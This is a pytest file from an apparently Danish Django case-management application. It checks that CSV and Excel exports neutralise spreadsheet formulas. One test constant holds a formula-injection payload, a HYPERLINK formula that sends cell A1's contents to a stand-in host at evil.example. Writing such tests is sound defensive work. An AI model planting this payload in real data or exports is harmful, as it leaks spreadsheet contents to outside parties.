"""A text that a spreadsheet would run as a formula is neutralised in every CSV and Excel export."""

import csv
import datetime
import io
import zipfile

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from conftest import login_verified
from traedesten.accounts.roles import Role
from traedesten.core.spreadsheet import safe_cell
from traedesten.courses import services as courses
from traedesten.courses.models import LegalBasis, Offer

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+45 1234", "'+45 1234"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-3,5", "-3,5"), ("+12 %", "+12 %"), ("Helt almindelig tekst", "Helt almindelig tekst"),
    (7, 7), (None, None)])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_the_audit_log_export_neutralises_a_formula_in_a_reason(client, make_user, guide, make_person, team,
                                                                other_team):
    from traedesten.gate import grant_outside_access

    stranger = make_person(make_user(Role.GUIDE, [other_team]), team=other_team)
    grant_outside_access(guide, stranger, HOSTILE)
    dpo = make_user(Role.DPO)
    login_verified(client, dpo)
    today = timezone.localdate().isoformat()
    response = client.get(reverse("accounts:audit_export"), {"start": today, "end": today})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    reasons = [r["reason"] for r in rows if r["reason"]]
    assert reasons and all(not r.startswith("=") for r in reasons) and "'" + HOSTILE in reasons


def test_the_key_figure_exports_neutralise_a_formula_in_an_offer_name(client, make_user, guide, make_person, team):
    offer = Offer.objects.create(name=HOSTILE, kind="course", legal_basis=LegalBasis.objects.first(), max_weeks=20)
    start = datetime.date(2026, 1, 5)
    for _ in range(6):  # closed in the period, so the offer is a row of "followed by a grant"
        course = courses.start_course(guide, make_person(guide, team=team), offer, start=start)
        courses.close_course(guide, course, closed_on=start + datetime.timedelta(days=30), destination="other",
                             expected_version=course.version)
    client.force_login(make_user(Role.ANALYST))
    query = {"fra": "2026-01-01", "til": "2026-02-28"}  # whole ended months, as every published report
    with time_machine.travel(datetime.datetime(2026, 3, 15, 10, tzinfo=datetime.UTC), tick=False):
        response = client.get(reverse("insights:export_csv"), query)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert cells and all(cell == "'" + HOSTILE for cell in cells)
    workbook = client.get(reverse("insights:export_xlsx"), query).content
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))
    assert "<f>" not in xml  # no cell holds a formula
